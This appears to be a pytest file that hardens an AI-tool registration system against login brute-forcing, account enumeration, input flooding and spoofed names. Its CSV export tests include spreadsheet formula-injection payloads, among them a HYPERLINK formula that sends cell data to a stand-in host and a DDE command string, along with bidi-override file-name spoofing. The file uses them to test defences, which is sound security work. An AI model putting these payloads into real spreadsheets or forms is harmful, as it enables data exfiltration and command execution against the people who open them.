"""Issue 11, service layer: each failure the outside test found, reproduced and named.

Concurrency with several processes is in ``test_concurrency.py``; the kill test in
``test_crash.py``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import sqlite3
from pathlib import Path

import pytest

from workbench.registry import auth
from workbench.public import complaints, monitoring, opendata, visitor as public
from workbench.decision import decisions, labels
from workbench.review import fairness_runs, reviews
from workbench.intake import submissions as subs
from workbench.registry.db import Registry
from workbench.errors import NotFound, PermissionDenied, ValidationFailed, WorkbenchError
from workbench.fairness import AuditSpec
from workbench.registry.models import PUBLIC, SYSTEM, Role, Status, make_bin
from workbench.intake.reader import ReaderError, read_table
from workbench.services import Workbench

from conftest import COMPLETE_DOSSIER, PASSWORD

REPO = Path(__file__).resolve().parents[1]
FIXTURES = REPO / "fixtures"
NOW = dt.datetime(2026, 11, 22, 10, 0, tzinfo=dt.timezone.utc)


# -- item 3: logins, throttling, registration, password policy ------------------------------

def test_anyone_can_keep_the_admin_locked_out_no_longer(reg, people):
    """Before: 5 wrong passwords every 15 minutes locked the admin out, from anywhere.
    Now the admin's own (known) source is never held back by a stranger's guesses, and a
    new source waits at most ``ACCOUNT_MAX_DELAY``."""
    auth.login(reg, "admin", PASSWORD, source="10.0.0.1", now=NOW)  # the admin's usual machine
    for i in range(200):  # an attacker rotating through many addresses
        with pytest.raises(auth.AuthError):
            auth.login(reg, "admin", "guess-" + str(i), source=f"198.51.100.{i % 250}", now=NOW)
    assert auth.login(reg, "admin", PASSWORD, source="10.0.0.1", now=NOW).username == "admin"
    with pytest.raises(auth.AuthError) as exc:  # a new machine: a short wait, not a lock
        auth.login(reg, "admin", PASSWORD, source="10.0.0.99", now=NOW)
    assert exc.value.key == auth.THROTTLED and exc.value.params["seconds"] <= auth.ACCOUNT_MAX_DELAY.total_seconds()
    later = NOW + auth.ACCOUNT_MAX_DELAY + dt.timedelta(seconds=1)
    assert auth.login(reg, "admin", PASSWORD, source="10.0.0.99", now=later).username == "admin"


def test_one_source_gets_five_guesses_then_growing_delays(reg, people):
    evaluated, waits = 0, []
    now = NOW
    for _ in range(9):
        try:
            auth.login(reg, "vendor_a", "wrong-password-x", source="203.0.113.9", now=now)
        except auth.AuthError as exc:
            if exc.key == auth.BAD_LOGIN:
                evaluated += 1
                continue
            waits.append(exc.params["seconds"])
            now += dt.timedelta(seconds=exc.params["seconds"])  # wait as told, then guess again
    assert evaluated == 7 and waits == [30, 60]  # five free guesses, then a delay that doubles


def test_unknown_user_and_wrong_password_get_the_same_message_and_the_same_throttle(reg, people):
    outcomes = {}
    for name in ("vendor_a", "no_such_user"):
        keys = []
        for _ in range(7):
            with pytest.raises(auth.AuthError) as exc:
                auth.login(reg, name, "wrong-password-x", source="203.0.113.7" + name, now=NOW)
            keys.append(exc.value.key)
        outcomes[name] = keys
    assert outcomes["vendor_a"] == outcomes["no_such_user"] == [auth.BAD_LOGIN] * 5 + [auth.THROTTLED] * 2


def test_users_unlock_clears_the_counters(reg, people, home):
    for _ in range(6):
        with pytest.raises(auth.AuthError):
            auth.login(reg, "vendor_a", "wrong-password-x", source="203.0.113.1", now=NOW)
    assert auth.unlock(reg, people.admin, "vendor_a") >= 1
    assert auth.login(reg, "vendor_a", PASSWORD, source="203.0.113.1", now=NOW).username == "vendor_a"
    assert any(e.action == "user.unlocked" for e in reg.events("user"))
    with pytest.raises(PermissionDenied):
        auth.unlock(reg, people.secretary, "vendor_a")


def test_cli_users_unlock(home):
    from click.testing import CliRunner

    from workbench.cli import cli

    wb = Workbench.open(home)
    auth.create_user(wb.registry, SYSTEM, username="clerk", password=PASSWORD, role="reviewer")
    for _ in range(6):
        with pytest.raises(auth.AuthError):
            auth.login(wb.registry, "clerk", "wrong-password-x", now=NOW)
    wb.close()
    result = CliRunner().invoke(cli, ["users", "unlock", "clerk"], env={"WORKBENCH_LANG": "en"})
    assert result.exit_code == 0, result.output
    assert "clerk" in result.output
    wb = Workbench.open(home)
    assert auth.login(wb.registry, "clerk", PASSWORD, now=NOW).username == "clerk"
    wb.close()


def test_registration_does_not_reveal_whether_a_username_exists(reg, people):
    taken = subs.register_vendor(reg, PUBLIC, org_name="Probe One", bin=make_bin("71000000001"),
                                 contact_email="a@probe.kz", username="admin", password="probe-passphrase-1")
    fresh = subs.register_vendor(reg, PUBLIC, org_name="Probe Two", bin=make_bin("71000000002"),
                                 contact_email="b@probe.kz", username="nobody_here", password="probe-passphrase-1")
    # the same outcome for a taken and a free name: an account under a name the system chose
    assert re.fullmatch(r"admin-\d{4}", taken.username) and re.fullmatch(r"nobody_here-\d{4}", fresh.username)
    assert auth.login(reg, taken.username, "probe-passphrase-1").role is Role.VENDOR
    assert auth.login(reg, "admin", PASSWORD).role is Role.ADMIN  # the existing admin is untouched


@pytest.mark.parametrize("password", ["short-1", "qwertyuiop", "Password2026!", "1q2w3e4r5t6y", "manchester",
                                      "dragon12345", "vendor_a_new"])
def test_password_policy_refuses_short_and_common_passwords(reg, people, password):
    name = "vendor_a_new"
    with pytest.raises(ValidationFailed) as exc:
        auth.create_user(reg, SYSTEM, username=name, password=password, role="reviewer")
    assert {p.key for p in exc.value.problems} & {auth.WEAK_PASSWORD, auth.COMMON_PASSWORD}


def test_password_policy_accepts_the_demo_and_test_passwords():
    from workbench.demo import DEMO_PASSWORD

    for password in (DEMO_PASSWORD, PASSWORD, "long-password-1", "probe-passphrase-1"):
        assert auth.password_problems(password) == [], password
    assert len(auth.common_passwords()) == 30_000
    assert auth.MIN_PASSWORD >= 10


# -- item 4: ownership, inactive accounts, tier ------------------------------------------------

def _decided(reg, people, store, vendor):
    """A decided (approved) submission of ``vendor``'s organisation, with a label (SQL-free
    path through the services would need the whole review; the label row is what matters)."""
    sub = subs.create_submission(reg, vendor, COMPLETE_DOSSIER)
    reg.execute("UPDATE submissions SET status = 'approved', tier = 'minimal' WHERE id = ?", (sub.id,))
    return sub.id


def test_vendor_cannot_supersede_another_vendors_label(reg, people):
    other = _decided(reg, people, None, people.vendor_b)
    before = reg.one("SELECT count(*) AS n FROM submissions")["n"]
    with pytest.raises(NotFound) as exc:
        subs.create_submission(reg, people.vendor_a, COMPLETE_DOSSIER, previous_id=other)
    assert exc.value.key == subs.REF_NOT_YOURS
    assert reg.one("SELECT count(*) AS n FROM submissions")["n"] == before
    own = _decided(reg, people, None, people.vendor_a)
    assert subs.create_submission(reg, people.vendor_a, COMPLETE_DOSSIER, previous_id=own).previous_id == own


def test_references_must_belong_to_the_submission(reg, people, home):
    wb = Workbench.open(home)
    r = wb.registry
    p = type(people)(r)
    sub_a = subs.create_submission(r, p.vendor_a, COMPLETE_DOSSIER)
    sub_b = subs.create_submission(r, p.vendor_b, COMPLETE_DOSSIER)
    r.execute("INSERT INTO messages (submission_id, author_id, kind, body, created_at) VALUES (?, ?, 'note', 'x', 'now')",
              (sub_b.id, p.vendor_b.user_id))
    foreign_msg = r.one("SELECT id FROM messages WHERE submission_id = ?", (sub_b.id,))["id"]
    with pytest.raises(NotFound):
        subs.add_attachment(r, p.vendor_a, sub_a.id, b"%PDF-1.4\n%\xe2\xe3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
                            "a.pdf", purpose="document", store=wb.store, message_id=foreign_msg)
    assert r.one("SELECT count(*) AS n FROM attachments")["n"] == 0
    wb.close()


def test_deactivated_user_keeps_working_no_longer(reg, people, dossier):
    vendor = people.vendor_a  # an actor held by a browser session from before
    draft = subs.create_submission(reg, vendor, dossier)
    auth.set_active(reg, people.admin, vendor.user_id, False)
    events = len(reg.events())
    for call in (lambda: subs.create_submission(reg, vendor, dossier),
                 lambda: subs.save_draft(reg, vendor, draft.id, {"tool_name": "Renamed"}),
                 lambda: subs.submit(reg, vendor, draft.id),
                 lambda: subs.get_submission(reg, vendor, draft.id),
                 lambda: subs.list_submissions(reg, vendor)):
        with pytest.raises(PermissionDenied) as exc:
            call()
        assert exc.value.key == auth.INACTIVE
    assert len(reg.events()) == events
    assert "deactivated" in exc.value.translate("en")
    secretary = people.secretary
    auth.set_active(reg, people.admin, secretary.user_id, False)
    for call in (lambda: complaints.list_complaints(reg, secretary), lambda: labels.all_labels(reg, secretary),
                 lambda: subs.screen(reg, secretary, draft.id, complete=True)):
        with pytest.raises(PermissionDenied):
            call()
    with pytest.raises(WorkbenchError):
        auth.set_active(reg, people.admin, people.admin.user_id, False)  # not yourself


def test_a_secretary_cannot_re_tier_a_high_risk_tool_to_skip_its_tests(home):
    from test_decisions import Committee

    wb = Workbench.open(home)
    wb.keys.ensure_demo()
    c = Committee(wb)
    sub_id = c.at_committee(tier="high", tests=False)  # reviewers classified it high risk
    with pytest.raises(WorkbenchError):  # at the committee: too late to re-tier
        subs.set_tier(wb.registry, c.secretary, sub_id, "minimal", reason="skip the tests")
    wb.registry.execute("UPDATE submissions SET status = 'in_review' WHERE id = ?", (sub_id,))
    subs.set_tier(wb.registry, c.secretary, sub_id, "minimal", reason="before the committee")
    reviews.send_to_committee(wb.registry, c.secretary, sub_id)  # the reviewers' stricter tier wins
    assert subs.get_submission(wb.registry, c.secretary, sub_id).tier == "high"
    with pytest.raises(ValidationFailed) as exc:
        c.decide(sub_id)
    assert [p.key for p in exc.value.problems] == [decisions.TESTS_MISSING]
    wb.close()


def test_set_tier_only_before_the_committee_with_a_reason(reg, people, dossier):
    sub = subs.create_submission(reg, people.vendor_a, {**dossier, "model_type": "generative"})
    subs.submit(reg, people.vendor_a, sub.id)
    with pytest.raises(WorkbenchError) as exc:
        subs.set_tier(reg, people.secretary, sub.id, "minimal", reason=" ")
    assert exc.value.key == subs.TIER_NEEDS_REASON
    with pytest.raises(WorkbenchError) as exc:
        subs.set_tier(reg, people.secretary, sub.id, "extreme", reason="typo")
    assert exc.value.key == subs.UNKNOWN_TIER
    assert subs.set_tier(reg, people.secretary, sub.id, "limited", reason="chatbot for pupils") == ["generative"]
    assert subs.set_tier(reg, people.secretary, sub.id, "high", reason="grades pupils") == ["fairness"]
    event = [e for e in reg.events("submission", sub.id) if e.action == "submission.tier_set"][-1]
    assert event.payload == {"from": "limited", "tier": "high", "reason": "grades pupils",
                             "required_tests": ["fairness"]}
    reg.execute("UPDATE submissions SET status = 'committee' WHERE id = ?", (sub.id,))
    with pytest.raises(WorkbenchError) as exc:
        subs.set_tier(reg, people.secretary, sub.id, "minimal", reason="skip the tests")
    assert exc.value.key == subs.TIER_TOO_LATE
    assert subs.get_submission(reg, people.secretary, sub.id).tier == "high"


# -- item 5: formulas, sizes, names -----------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tx", "\r=1"]


def test_csv_exports_carry_no_spreadsheet_formulas():
    import pandas as pd

    record = {k: [] if kind == "array" else "" for k, (kind, _) in opendata.EXPORT_FIELDS.items()}
    rows = [dict(record, tool_name=h, vendor=h, label_id=f"KZ-AIS-2026-{i:06d}") for i, h in enumerate(HOSTILE)]
    text = opendata._csv_bytes(rows).decode("utf-8")  # the signed open-data export
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    expiring = pd.DataFrame({"label_id": HOSTILE, "tool_name": HOSTILE, "vendor": HOSTILE, "tier": "high",
                             "valid_until": "2027-01-01", "days_left": -3})
    dash = monitoring.to_csv(expiring, "expiring", "en").decode("utf-8-sig")  # the dashboard's download
    cells += [c for row in csv.reader(io.StringIO(dash, newline="")) for c in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?[\d.]+", c)]
    print(f"formula cells in CSV exports {len(dangerous)}/{len(HOSTILE) * 5}")
    assert dangerous == []
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in cells and "-3" in cells  # numbers stay numbers
    from workbench import textsafe

    df = pd.DataFrame({"tool_name": HOSTILE, "n": range(len(HOSTILE)), "rate": [-0.5] * len(HOSTILE)})
    cells = [c for row in csv.reader(io.StringIO(textsafe.safe_frame(df).to_csv(index=False), newline="")) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?[\d.]+", c)]
    assert "-0.5" in cells


def test_every_csv_and_xlsx_writer_uses_textsafe():
    """Meta-test: a module that writes CSV or XLSX must neutralise its cells."""
    # (calls of monitoring.to_csv, the product's own safe writer, are not writers themselves)
    writers = re.compile(r"(?<!mon)(?<!monitoring)\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|\.to_excel\(|openpyxl\.Workbook\(|Workbook\(\)")
    # ``workbench counts`` writes a machine input for ``workbench audit --kind counts`` on the
    # vendor's own machine, from the vendor's own data: its group labels must stay exactly the
    # records' labels (a leading ' would make "=x" a different group), so it is exempt.
    exempt = {"workbench/cli/_counts.py"}
    offenders = []
    for folder in ("workbench", "ui"):
        for path in (REPO / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if path.name == "textsafe.py" or str(path.relative_to(REPO)) in exempt or not writers.search(text):
                continue
            if "textsafe" not in text and "safe_frame" not in text and "safe_row" not in text:
                offenders.append(str(path.relative_to(REPO)))
    assert offenders == []


def test_a_20_mb_clarification_answer_is_refused_and_nothing_stored(reg, people, dossier):
    from workbench import textsafe

    sub = subs.create_submission(reg, people.vendor_a, dossier)
    subs.submit(reg, people.vendor_a, sub.id)
    subs.screen(reg, people.secretary, sub.id, complete=True)
    subs.ask_clarification(reg, people.secretary, sub.id, "Which data?")
    before = (reg.one("SELECT count(*) AS n FROM messages")["n"], len(reg.events()))
    with pytest.raises(WorkbenchError) as exc:
        subs.answer_clarification(reg, people.vendor_a, sub.id, "x" * 20_000_000)
    assert exc.value.key == textsafe.TOO_LONG
    assert (reg.one("SELECT count(*) AS n FROM messages")["n"], len(reg.events())) == before
    assert subs.get_submission(reg, people.vendor_a, sub.id).status is Status.CLARIFICATION


def test_names_lose_nul_and_bidi_overrides(reg, people, dossier):
    from workbench import textsafe

    org = subs.register_vendor(reg, PUBLIC, org_name="Evil\u202eLLP gpj.exe\x00", bin=make_bin("72000000001"),
                               contact_email="e@evil.kz", username="evil", password="probe-passphrase-1",
                               display_name="Eve\u2066\x00 Admin\u202c")
    assert org.name == "EvilLLP gpj.exe"
    assert auth.get_user(reg, auth.login(reg, org.username, "probe-passphrase-1").user_id).display_name == "Eve Admin"
    sub = subs.create_submission(reg, people.vendor_a, {**dossier, "tool_name": "Tool\u202e\x00 X",
                                                        "description_kk": "a\x00b\nc\u202ed"})
    assert sub.tool_name == "Tool X" and sub.dossier.description_kk == "ab\ncd"
    assert textsafe.clean_name("a\u200b\u200fb\tc") == "ab c"


# -- item 10: reader nesting, unknown tier, database locked ------------------------------------

def _deep_line(depth: int = 30_000) -> str:
    return '{"a": ' + "[" * depth + "]" * depth + "}"


@pytest.mark.parametrize("lines", [[_deep_line()], ['{"y_true": 1, "y_pred": 0}', _deep_line()]])
def test_jsonl_nested_30000_deep_gives_a_clear_message_and_nothing_is_saved(reg, people, dossier, home, lines):
    data = ("\n".join(lines) + "\n").encode()
    with pytest.raises(ReaderError) as exc:
        read_table(data, name="deep.jsonl")
    assert exc.value.key == "hardening.reader.too_deep" and exc.value.params["row"] == len(lines)
    assert "/" not in exc.value.translate("ru").replace("deep.jsonl", "")  # no server paths
    wb = Workbench.open(home)
    p = type(people)(wb.registry)
    sub = subs.create_submission(wb.registry, p.vendor_a, dossier)
    with pytest.raises(ReaderError):
        subs.add_attachment(wb.registry, p.vendor_a, sub.id, data, "deep.jsonl", purpose="outputs", store=wb.store)
    assert wb.registry.one("SELECT count(*) AS n FROM attachments")["n"] == 0
    assert not [f for f in (home / "files").rglob("*") if f.is_file()]
    wb.close()


def test_unknown_tier_gives_a_translated_error_not_a_key_error(home):
    from test_decisions import Committee

    wb = Workbench.open(home)
    wb.keys.ensure_demo()
    c = Committee(wb)
    sub_id = c.at_committee(tier="minimal", model_type="other", tests=False)
    wb.registry.execute("UPDATE submissions SET tier = 'extreme' WHERE id = ?", (sub_id,))
    with pytest.raises(WorkbenchError) as exc:
        c.decide(sub_id)
    assert exc.value.key == subs.UNKNOWN_TIER and "extreme" in exc.value.translate("kk")
    assert wb.registry.one("SELECT count(*) AS n FROM decisions")["n"] == 0
    wb.close()


def test_database_locked_gives_a_translated_message_and_changes_nothing(home, people):
    from workbench.registry.db import BUSY

    wb = Workbench.open(home)
    p = type(people)(wb.registry)
    wb.registry.conn.execute("PRAGMA busy_timeout = 50")
    other = sqlite3.connect(str(wb.home.db_path), isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # another process holds the write lock
    try:
        with pytest.raises(WorkbenchError) as exc:
            subs.create_submission(wb.registry, p.vendor_a, COMPLETE_DOSSIER)
        assert exc.value.key == BUSY and "nothing was saved" in exc.value.translate("en")
    finally:
        other.execute("ROLLBACK")
        other.close()
    assert wb.registry.one("SELECT count(*) AS n FROM submissions")["n"] == 0
    assert subs.create_submission(wb.registry, p.vendor_a, COMPLETE_DOSSIER).id  # and works once free
    wb.close()


# -- item 11: Excel uploads --------------------------------------------------------------------

def test_every_excel_upload_is_usable_and_runs_a_fairness_audit(home, people, dossier):
    """Stored files are named by hash, without .xlsx: the reader must go by content."""
    import pandas as pd
    from openpyxl import Workbook

    frame = pd.read_csv(FIXTURES / "early_warning_outputs.csv")
    book = Workbook()
    sheet = book.active
    sheet.append(list(frame.columns))
    for row in frame.itertuples(index=False):
        sheet.append(list(row))
    buf = io.BytesIO()
    book.save(buf)
    wb = Workbench.open(home)
    p = type(people)(wb.registry)
    sub = subs.create_submission(wb.registry, p.vendor_a, dossier)
    att = subs.add_attachment(wb.registry, p.vendor_a, sub.id, buf.getvalue(), "outputs.xlsx", purpose="outputs",
                              store=wb.store)
    assert att.kind == "xlsx" and wb.store.path(att.sha256).suffix == ""
    subs.submit(wb.registry, p.vendor_a, sub.id)
    subs.screen(wb.registry, p.secretary, sub.id, complete=True)
    run = fairness_runs.run_and_save(wb.registry, p.secretary, sub.id, att.id,
                                     AuditSpec(y_true="y_true", y_pred="y_pred", sensitive=["sex"], n_boot=100),
                                     store=wb.store)
    assert run.result.n_rows == len(frame) and run.result.checks
    assert run.verdict == run.result.verdict
    wb.close()


# -- item 12: complaint flood guard ------------------------------------------------------------

def test_a_solved_challenge_cannot_be_replayed_with_fresh_sessions(reg):
    challenge = public.new_challenge(reg, source="198.51.100.20")
    accepted = 0
    for i in range(60):
        try:
            public.file_complaint(reg, PUBLIC, body=f"Complaint {i}", challenge_token=challenge.token,
                                  challenge_answer=str(challenge.a + challenge.b), source=f"session-{i}")
            accepted += 1
        except ValidationFailed as exc:
            assert [p.key for p in exc.problems] == [public.BAD_CHALLENGE]
    assert accepted == 1  # was 60 of 60


def test_complaint_rate_limit_does_not_reset_with_a_new_session(reg):
    filed = 0
    for i in range(10):  # a new browser session each time, the same address
        challenge = public.new_challenge(reg, source="198.51.100.30")
        try:
            public.file_complaint(reg, PUBLIC, body=f"Flood {i}", challenge_token=challenge.token,
                                  challenge_answer=str(challenge.a + challenge.b), source="198.51.100.30")
            filed += 1
        except WorkbenchError as exc:
            assert exc.key == public.TOO_MANY
    assert filed == public.COMPLAINTS_PER_HOUR
    for _ in range(complaints.CHALLENGES_PER_HOUR - 10):
        public.new_challenge(reg, source="198.51.100.30")
    with pytest.raises(WorkbenchError) as exc:  # fetching challenges is limited by address too
        public.new_challenge(reg, source="198.51.100.30")
    assert exc.value.key == complaints.CHALLENGE_FLOOD


def test_a_wrong_answer_spends_the_challenge(reg):
    challenge = public.new_challenge(reg, source="198.51.100.40")
    assert not complaints.redeem_challenge(reg, challenge.token, str(challenge.a + challenge.b + 1))
    assert not complaints.redeem_challenge(reg, challenge.token, str(challenge.a + challenge.b))
    expired = public.new_challenge(reg, source="198.51.100.40")
    later = dt.datetime.now(dt.timezone.utc) + complaints.CHALLENGE_TTL + dt.timedelta(minutes=1)
    assert not complaints.redeem_challenge(reg, expired.token, str(expired.a + expired.b), now=later)
